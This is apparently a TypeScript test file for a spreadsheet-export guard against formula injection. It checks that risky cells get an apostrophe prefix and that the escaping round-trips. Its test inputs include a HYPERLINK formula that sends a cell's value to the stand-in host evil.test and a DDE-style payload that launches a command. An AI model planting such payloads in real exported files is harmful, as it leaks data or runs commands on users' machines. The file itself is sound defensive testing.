import fc from 'fast-check'
import { expect, test } from 'vitest'
import { guarded, withoutGuard } from './formula-cells.ts'

test.each([
  '=HYPERLINK("http://evil.test/?x="&B2,"open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3+cmd',
  '\t=1',
  '＝1',
  "'=1",
])('CLI-03 a cell %j is no formula in what is exported', (text) => {
  expect(guarded(text)).toBe(`'${text}`)
})

test.each(['', 'Harbour Books', '-12.5', '-1e+21', '+49 (0)30 123-456', "'s-Hertogenbosch", '1=1'])(
  'CLI-03 a cell %j is exported as it is',
  (text) => {
    expect(guarded(text)).toBe(text)
  },
)

test('CLI-03 a text that begins with a carriage return has no apostrophe when it comes in, with a line feed', () => {
  expect(withoutGuard(guarded('\rx').replaceAll('\r', '\n'))).toBe('\nx')
})

test('CLI-03 any text that is exported comes in as it was', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc
      .array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '1', 'a', '＝'))
      .map((parts) => parts.join('')),
  )
  fc.assert(
    fc.property(text, (some) => {
      expect(withoutGuard(guarded(some))).toBe(some)
    }),
  )
})
